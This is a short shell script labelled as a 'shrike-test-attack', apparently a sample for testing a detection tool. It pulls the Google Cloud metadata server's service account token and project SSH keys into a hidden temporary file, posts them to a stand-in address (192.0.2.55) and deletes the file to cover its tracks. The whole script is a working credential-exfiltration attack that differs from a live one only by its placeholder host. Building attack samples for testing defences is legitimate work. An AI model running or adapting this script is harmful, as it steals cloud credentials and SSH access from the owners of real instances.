#!/bin/sh
# shrike-test-attack: credential-theft: GCP metadata server service account token
curl -s -H 'Metadata-Flavor: Google' 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token' > /tmp/.g
curl -s -H 'Metadata-Flavor: Google' 'http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys' >> /tmp/.g
curl -s --data-binary @/tmp/.g http://192.0.2.55/g; rm -f /tmp/.g
